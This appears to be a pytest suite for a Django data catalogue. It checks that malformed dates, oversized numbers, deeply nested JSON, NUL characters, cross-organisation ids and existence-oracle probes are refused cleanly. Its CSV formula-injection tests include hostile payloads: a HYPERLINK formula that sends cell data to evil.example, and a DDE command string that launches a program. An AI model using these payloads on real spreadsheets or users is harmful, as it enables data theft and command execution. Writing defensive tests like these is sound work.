"""Hostile input on every path: each probe gets a 4xx with a reason, never a 500, and changes nothing.

The probes are the ones of issue 11 (malformed and out-of-range dates, huge and non-integer
paging, 100k-deep JSON, NUL characters, other datasets' ids in edit forms), run on whatever
database the suite runs on (the NUL and overflow faults show on PostgreSQL).
"""

import csv
import io
import json

import pytest
from django.test import Client
from rest_framework.test import APIClient

from catalogue.models import Dataset, Field
from tests.writes import add_field

HUGE = "1" + "0" * 23
DEEP = "[" * 100_000


@pytest.fixture
def public(make_dataset):
    dataset = make_dataset("Admissions")
    add_field(dataset, name="region", definition="ONS region code")
    return dataset


def api_as(user=None):
    client = APIClient(raise_request_exception=False)
    if user is not None:
        client.force_authenticate(user)
    return client


def page_as(user=None):
    client = Client(raise_request_exception=False)
    if user is not None:
        client.force_login(user)
    return client


def reason_of(response) -> str:
    """The reason a refusal gives, from its JSON body or its text."""
    if response["Content-Type"].startswith("application/json"):
        return json.dumps(response.json())
    return response.content.decode()


# Out of range once in UTC (year 0, year 10000), impossible, or not a date at all.
BAD_MOMENTS = ["x", "99999-01-01", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "2024-02-30"]
BAD_NUMBERS = ["1e23", HUGE, "-1", "0", "1.5", "x"]

# (method, path, body or None); {slug} is a public dataset's slug.
GET_PROBES = [
    *(f"/api/v1/datasets/{{slug}}/upstream?as_of={m}" for m in BAD_MOMENTS),
    *(f"/api/v1/datasets/{{slug}}/downstream?as_of={m}" for m in BAD_MOMENTS),
    *(f"/datasets/{{slug}}/provenance.ttl?as_of={m}" for m in BAD_MOMENTS),
    *(f"/api/v1/datasets/{{slug}}/upstream?{p}={n}" for p in ("page", "limit", "depth") for n in BAD_NUMBERS),
    *(f"/api/v1/fields/{{field}}/upstream?depth={n}" for n in BAD_NUMBERS),
    *(f"/api/3/action/package_search?{p}={n}" for p in ("start", "rows", "facet.limit") for n in ("1e23", HUGE)),
    *(f"/api/3/action/package_list?{p}={n}" for p in ("offset", "limit") for n in ("1e23", HUGE)),
    *(f"/api/3/action/organization_list?{p}={n}" for p in ("offset", "limit") for n in ("1e23", HUGE)),
    "/api/3/action/organization_show?id=" + "9" * 5000,
    f"/catalog?page={HUGE}",
    f"/catalog/changes?since=2024-01-01&limit={HUGE}",
    "/catalog?modified_since=2024-02-30",
    "/catalog/changes?since=2024-02-30",
    "/catalog/changes?since=0001-01-01T00:00:00%2B14:00",
    "/api/3/action/package_search?fq=metadata_modified:[2024-02-30 TO *]",
    # NUL characters: PostgreSQL cannot store or compare them.
    "/api/3/action/package_show?id=a%00b",
    "/api/3/action/organization_show?id=a%00b",
    "/api/v1/datasets/{slug}%00/upstream",
    "/api/v1/lineage/path?from=a%00&to={slug}",
]


@pytest.mark.parametrize("path", GET_PROBES)
def test_bad_query_parameters_get_a_4xx_with_a_reason(db, public, path):
    path = path.format(slug=public.slug, field=public.fields.get().pk)
    response = page_as().get(path)
    assert 400 <= response.status_code < 500, (path, response.status_code)
    assert reason_of(response).strip()


def test_a_page_past_the_end_of_the_catalogue_search_is_not_an_error(db, public):
    response = page_as().get(f"/?page={HUGE}")
    assert response.status_code in (200, 404)


@pytest.mark.parametrize(
    "path",
    [
        # 14:00 UTC on 1 January of year 1: early, but a moment like any other.
        "/api/v1/datasets/{slug}/upstream?as_of=0001-01-01T00:00:00-14:00",
        "/datasets/{slug}/provenance.ttl?as_of=0001-01-01T00:00:00-14:00",
        "/catalog?modified_since=0001-01-01T00:00:00-14:00",
        # An organisation id no database holds matches nothing.
        "/api/3/action/package_search?fq=organization:" + "9" * 5000,
    ],
)
def test_extreme_but_valid_values_are_answered(db, public, path):
    response = page_as().get(path.format(slug=public.slug))
    assert response.status_code == 200, (path, response.status_code)
    if "package_search" in path:
        assert response.json()["result"]["count"] == 0


# JSON bodies: (path, body, who) with who in ("anon", "bob").
JSON_PROBES = [
    ("/api/3/action/package_search", DEEP),
    ("/api/3/action/package_search", '{"start": 1e23}'),
    ("/api/3/action/package_search", '{"rows": 1e23}'),
    ("/api/3/action/package_list", '{"offset": 1e23}'),
    ("/api/3/action/package_show", '{"id": "a\\u0000b"}'),
    ("/api/v1/fields/", DEEP),
    ("/api/v1/datasets/", DEEP),
    ("/api/v1/fields/", '{"dataset": "{slug}", "name": "x", "constraints": {"enum": ["a\\u0000"]}}'),
    ("/api/v1/fields/", '{"dataset": "{slug}", "name": "a\\u0000b"}'),
    ("/api/v1/datasets/", '{"publisher": "ohs", "title": "T", "description": "a\\u0000"}'),
]


@pytest.mark.parametrize(("path", "body"), JSON_PROBES)
def test_hostile_json_bodies_get_a_4xx_with_a_reason(db, public, bob, path, body):
    before = Field.objects.count(), Dataset.objects.count()
    body = body.replace("{slug}", public.slug)
    response = api_as(bob).post(path, body, content_type="application/json")
    assert 400 <= response.status_code < 500, (path, response.status_code, response.content[:300])
    assert reason_of(response).strip()
    assert (Field.objects.count(), Dataset.objects.count()) == before


def import_url(dataset):
    return f"/publish/datasets/{dataset.slug}/fields/import/"


@pytest.mark.parametrize(
    "data",
    [
        {"text": '{"fields": ' + DEEP},
        {"text": "name,a\x00b\n1,2\n"},
        {"text": "a," + "x" * 200_000 + "\n1,2\n"},
        {"confirm": "1", "rows": DEEP, "revision": "{revision}"},
        {"confirm": "1", "rows": '[{"name": "a\\u0000b"}]', "revision": "{revision}"},
        {"confirm": "1", "rows": '[{"name": "a", "required": {"x": 1}}]', "revision": "{revision}"},
        {"confirm": "1", "rows": '[{"name": "a", "constraints": {"enum": ["\\u0000"]}}]', "revision": "{revision}"},
        {"confirm": "1", "rows": "[]", "revision": HUGE},
        {"confirm": "1", "rows": "[]", "revision": "x"},
    ],
)
def test_hostile_dictionary_imports_are_refused_with_a_reason(db, public, bob, data):
    public.refresh_from_db()
    data = {k: v.replace("{revision}", str(public.revision)) for k, v in data.items()}
    client = page_as(bob)
    response = client.post(import_url(public), data, follow=True)
    assert response.status_code in (200, 400), response.status_code
    page = response.content.decode()
    assert "could not be saved" in page or "error" in page.lower()
    assert list(public.fields.values_list("name", flat=True)) == ["region"]


def test_nul_characters_in_a_form_field_are_refused_with_a_reason(db, public, bob):
    response = page_as(bob).post(f"/publish/datasets/{public.slug}/edit/", {"title": "a\x00b"})
    assert response.status_code == 400
    assert "Null characters are not allowed" in response.content.decode()
    public.refresh_from_db()
    assert public.title == "Admissions"


def read_csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8"))))


# CSV formula injection --------------------------------------------------------------------

# Field names a publisher may type (the model refuses leading tabs and returns; the neutraliser
# quotes those too, see its own test).
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"x")', "+1+1", "-2+3", "@SUM(A1)", "-cmd|' /C calc'!A0"]


def test_every_csv_the_app_serves_neutralises_formulas_from_user_text(db, make_dataset, settings, client):
    dataset = make_dataset("Formulae")
    for name in FORMULAS:
        add_field(dataset, name=name, definition="typed by a publisher")
    from tests.writes import add_distribution

    add_distribution(
        dataset,
        access_url="https://data.example.gov/x",
        download_url=f"https://data.example.gov/demo/files/{dataset.slug}.csv",
    )
    header, *rows = read_csv(client.get(f"/demo/files/{dataset.slug}.csv"))
    assert header == ["'" + name for name in FORMULAS]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in [header, *rows] for cell in row)


def test_spreadsheets_keep_user_text_as_text_not_formulas(db, make_dataset, client):
    import openpyxl

    dataset = make_dataset("Formulae")
    for name in FORMULAS[:4]:
        add_field(dataset, name=name, definition="typed by a publisher")
    from tests.writes import add_distribution

    add_distribution(
        dataset,
        access_url="https://data.example.gov/x",
        download_url=f"https://data.example.gov/demo/files/{dataset.slug}.xlsx",
    )
    response = client.get(f"/demo/files/{dataset.slug}.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = next(sheet.iter_rows(max_row=1))
    # Inline strings ("s"), never formulas ("f"): the spreadsheet shows the text as typed.
    assert [cell.data_type for cell in header] == ["s"] * 4
    assert [cell.value for cell in header] == FORMULAS[:4]


def test_csv_cell_neutraliser_quotes_formulas_and_keeps_numbers():
    from lib.csv_cells import csv_cell_neutralise

    assert [csv_cell_neutralise(v) for v in ["=1", "+a", "-a", "@a", "\ta", "\ra"]] == [
        "'=1",
        "'+a",
        "'-a",
        "'@a",
        "'\ta",
        "'\ra",
    ]
    assert [csv_cell_neutralise(v) for v in ["-12.5", "+3", "1e5", "region", "", 7]] == [
        "-12.5",
        "+3",
        "1e5",
        "region",
        "",
        7,
    ]


# The data dictionary import: bounded, and its error list capped ------------------------------


def test_an_import_of_300000_columns_answers_one_line_not_300000(db, public, bob):
    text = ",".join(["a"] * 300_000) + "\n"  # every column repeats the first one
    response = page_as(bob).post(import_url(public), {"text": text})
    page = response.content.decode()
    assert "300000 columns; at most 500 can be imported" in page
    assert page.count("at most 500 can be imported") == 1
    assert "repeats the name" not in page
    assert len(page) < len(text) + 100_000  # the pasted text is shown back, and little else


def test_the_error_list_of_an_import_is_capped_with_a_count_of_the_rest(db, public, bob):
    text = ",".join(["a"] * 400) + "\n"  # 399 columns repeat the first
    page = page_as(bob).post(import_url(public), {"text": text}).content.decode()
    assert "repeats the name of column 1" in page
    assert page.count("repeats the name of column 1") == 50
    assert "and 349 more problems" in page


def test_the_confirm_step_caps_its_errors_too(db, public, bob):
    public.refresh_from_db()
    rows = json.dumps([{"name": f"c{n}", "datatype": "nonsense"} for n in range(400)])
    response = page_as(bob).post(
        import_url(public), {"confirm": "1", "rows": rows, "revision": public.revision}, follow=True
    )
    page = response.content.decode()
    assert "could not be saved" in page
    assert page.count("not one of the available choices") == 50 and "and 350 more problems" in page
    assert list(public.fields.values_list("name", flat=True)) == ["region"]


# Issue point 1: no client-shaped row can write outside the editor's organisation ---------------


@pytest.fixture
def others_private(make_dataset, dft):
    dataset = make_dataset("Secret roads", publisher=dft, status=Dataset.Status.DRAFT)
    add_field(dataset, name="road", definition="Road number")
    return dataset


@pytest.mark.parametrize("extra", ["dataset_id", "dataset", "id", "pk", "position", "uuid"])
def test_a_confirm_row_naming_another_organisations_dataset_changes_nothing(db, public, others_private, bob, extra):
    public.refresh_from_db()
    target = others_private.pk if extra != "id" else others_private.fields.get().pk
    rows = json.dumps([{"name": "road", "datatype": "string", "definition": "Hijacked", extra: target}])
    response = page_as(bob).post(
        import_url(public), {"confirm": "1", "rows": rows, "revision": public.revision}, follow=True
    )
    assert "could not be saved" in response.content.decode()
    assert f"unknown properties {extra}" in response.content.decode()
    assert list(others_private.fields.values_list("name", "definition")) == [("road", "Road number")]
    assert list(public.fields.values_list("name", flat=True)) == ["region"]
    assert not others_private.history.filter(history_user=bob).exists()


API_PART_ROUTES = [
    ("/api/v1/fields/", {"name": "road", "definition": "Hijacked"}),
    ("/api/v1/distributions/", {"access_url": "https://evil.example/x"}),
    ("/api/v1/checks/", {"name": "Hijacked", "outcome": "pass"}),
    ("/api/v1/measurements/", {"dimension": "completeness", "metric": "rows", "value": 1}),
    ("/api/v1/collection-methods/", {"method_type": "survey", "description": "Hijacked"}),
]


@pytest.mark.parametrize(("path", "row"), API_PART_ROUTES)
def test_every_api_row_write_ignores_keys_that_name_another_dataset(db, public, others_private, bob, path, row):
    """The serializers list their fields: dataset_id, id and the like are not among them, so a
    row naming another organisation's dataset is written (if at all) to the dataset it names
    by slug, which must be one the writer may change."""
    before = others_private.history.count(), others_private.fields.count(), others_private.distributions.count()
    body = {**row, "dataset": public.slug, "dataset_id": others_private.pk, "id": others_private.fields.get().pk}
    response = api_as(bob).post(path, body, format="json")
    assert response.status_code == 201, response.content
    assert response.json()["dataset"] == public.slug
    assert response.json().get("id") != body["id"]
    others_private.refresh_from_db()
    after = others_private.history.count(), others_private.fields.count(), others_private.distributions.count()
    assert after == before
    assert others_private.fields.get().definition == "Road number"
    # Naming it by slug instead answers as for a dataset that does not exist.
    response = api_as(bob).post(path, {**row, "dataset": others_private.slug}, format="json")
    missing = api_as(bob).post(path, {**row, "dataset": "no-such-dataset"}, format="json")
    assert response.status_code == missing.status_code == 400
    assert response.json() == json.loads(json.dumps(missing.json()).replace("no-such-dataset", others_private.slug))


def test_every_row_shaped_write_lists_its_keys():
    """Forms and serializers that take client rows name their fields; none takes '__all__'
    or the keys that tie a row to a dataset from the client."""
    from django import forms as django_forms
    from rest_framework import serializers as drf_serializers

    from catalogue.api import serializers as api_serializers
    from catalogue.publish import forms as publish_forms

    classes = [
        *(
            c
            for c in vars(api_serializers).values()
            if isinstance(c, type) and issubclass(c, drf_serializers.Serializer)
        ),
        *(c for c in vars(publish_forms).values() if isinstance(c, type) and issubclass(c, django_forms.BaseForm)),
    ]
    checked = 0
    for cls in classes:
        meta = getattr(cls, "Meta", None)
        fields = getattr(meta, "fields", None)
        if fields is None:
            continue
        checked += 1
        assert fields != "__all__", cls
        assert not {"dataset_id", "publisher_id", "id"} & set(fields) - {"id"}, cls
    assert checked >= 12
    from catalogue.publish.forms import FieldImportRowForm
    from catalogue.services import FIELD_IMPORT_KEYS

    assert set(FieldImportRowForm.base_fields) == FIELD_IMPORT_KEYS


def test_an_edit_form_naming_another_datasets_field_is_a_form_error(db, public, others_private, bob):
    from tests.catalogue.test_publish_pages import errors_in, form_data

    client = page_as(bob)
    page = client.get(f"/publish/datasets/{public.slug}/edit/").content.decode()
    other_field = others_private.fields.get()
    data = form_data(page, fields__0__id=str(other_field.pk), fields__0__definition="Hijacked")
    response = client.post(f"/publish/datasets/{public.slug}/edit/", data)
    assert response.status_code == 400
    assert any("valid choice" in e for e in errors_in(response)) or "valid choice" in response.content.decode()
    other_field.refresh_from_db()
    assert other_field.definition == "Road number" and other_field.dataset_id == others_private.pk
    assert list(public.fields.values_list("name", "definition")) == [("region", "ONS region code")]


# Existence oracles -----------------------------------------------------------------------------


def dataset_scoped_api_paths(slug: str) -> list[str]:
    """Every REST API route that names a dataset by its slug, from the URL configuration."""
    from django.urls import URLPattern, URLResolver, get_resolver

    paths = []

    def walk(patterns, prefix):
        for pattern in patterns:
            route = str(pattern.pattern)
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns, prefix + route.lstrip("^"))
            elif isinstance(pattern, URLPattern) and "slug" in pattern.pattern.regex.groupindex:
                full = prefix + route.lstrip("^")
                if "format" in pattern.pattern.regex.groupindex:
                    continue  # the same route with a .json suffix
                for group in ("(?P<slug>[a-z0-9-]+)", "<str:slug>", "(?P<slug>[^/.]+)"):
                    full = full.replace(group, slug)
                paths.append("/" + full.rstrip("$"))

    walk(get_resolver().url_patterns, "")
    return sorted(p for p in set(paths) if p.startswith("/api/v1/") and slug in p)


def test_the_walk_finds_every_dataset_scoped_api_route():
    found = dataset_scoped_api_paths("s")
    for expected in ["/api/v1/datasets/s/", "/api/v1/datasets/s/history/", "/api/v1/datasets/s/upstream"]:
        assert expected in found, found
    assert len(found) >= 8, found


@pytest.mark.parametrize("who", ["anon", "charlie", "dft_editor"])
def test_a_private_slug_and_a_missing_slug_answer_alike_on_every_api_route(db, make_dataset, ohs, request, who):
    user = request.getfixturevalue(who) if who != "anon" else None
    private = make_dataset("Unpublished admissions", status=Dataset.Status.DRAFT)
    missing = "x" * len(private.slug)
    client = api_as(user)
    checked = 0
    for private_path, missing_path in zip(
        dataset_scoped_api_paths(private.slug), dataset_scoped_api_paths(missing), strict=True
    ):
        for method in ("get", "post", "put", "patch", "delete"):
            body = {"organisation": "ohs", "namespace": "a", "name": "b", "reason": "x", "history_id": 1}
            one = getattr(client, method)(private_path, body, format="json")
            other = getattr(client, method)(missing_path, body, format="json")
            assert one.status_code == other.status_code, (method, private_path, one.status_code, other.status_code)
            assert one.content.replace(private.slug.encode(), missing.encode()) == other.content, (method, private_path)
            checked += 1
    assert checked >= 40


@pytest.fixture
def dft_editor(dft):
    from django.contrib.auth import get_user_model

    from catalogue.models import Membership

    user = get_user_model().objects.create_user("dora", "dora@example.gov", "correct-horse-battery")
    Membership.objects.create(user=user, organisation=dft, role=Membership.Role.EDITOR)
    return user


def test_adding_a_member_does_not_tell_whether_a_user_exists(db, ohs, alice, bob, charlie):
    """An organisation's admin adds people by user name. An unknown name and the name of an
    account that cannot be added (a deactivated one, a system actor) get the same answer; a
    person who does not manage the organisation is refused before any name is looked up."""
    import re

    from django.contrib.auth import get_user_model

    from catalogue.actors import system_actor
    from catalogue.models import Membership

    get_user_model().objects.create_user("deactivated-person", "gone@example.gov", "x", is_active=False)
    system_actor("tests")
    answers = set()
    for username in ["nobody-here-at-all", "deactivated-person", "provcat-tests"]:
        response = api_as(alice).post(
            "/api/v1/memberships/", {"organisation": "ohs", "user": username, "role": "viewer"}, format="json"
        )
        assert response.status_code == 400
        answers.add(json.dumps(response.json()).replace(username, "NAME"))
        page = page_as(alice).post("/publish/organisations/ohs/members/", {"username": username, "role": "viewer"})
        assert page.status_code == 200
        shown = page.content.decode().replace(username, "NAME").split("<main")[-1]
        answers.add(re.sub(r'name="csrfmiddlewaretoken" value="[^"]*"', "", shown))
    assert len(answers) == 2, answers  # one for the API, one for the page
    assert not Membership.objects.filter(user__username__in=["deactivated-person", "provcat-tests"]).exists()
    # Someone who is not an admin of ohs learns nothing either: refused alike.
    for username in ["nobody-here", "charlie"]:
        response = api_as(bob).post(
            "/api/v1/memberships/", {"organisation": "ohs", "user": username, "role": "viewer"}, format="json"
        )
        assert response.status_code == 403
        assert "charlie" not in response.content.decode() and "nobody-here" not in response.content.decode()
    # An admin adds an existing active person.
    response = api_as(alice).post(
        "/api/v1/memberships/", {"organisation": "ohs", "user": "charlie", "role": "viewer"}, format="json"
    )
    assert response.status_code == 201 and response.json()["user"] == "charlie"


@pytest.mark.parametrize(
    ("route", "body"),
    [
        ("/api/v1/distributions/", {"access_url": 'https://data.example.gov/a"onmouseover="x'}),
        ("/api/v1/distributions/", {"access_url": "https://data.example.gov/a", "download_url": "https://x.gov/{a}"}),
        ("/api/v1/fields/", {"name": "region", "concept_uri": "https://x.gov/a|b"}),
    ],
)
def test_urls_rdf_cannot_carry_are_refused_when_written(bob, make_dataset, route, body):
    """Django's URL validator lets <>"{}|\\^` through; every stored URI becomes an RDF IRI, so
    lib.iri refuses them at write time, with the reason (the exports drop any already stored)."""
    from rest_framework.test import APIClient

    dataset = make_dataset("Hospital admissions")
    client = APIClient()
    client.force_authenticate(bob)
    response = client.post(route, {"dataset": dataset.slug, **body}, format="json")
    assert response.status_code == 400
    assert "Not a usable URI" in response.content.decode()
    assert not dataset.distributions.exists() and not dataset.fields.exists()
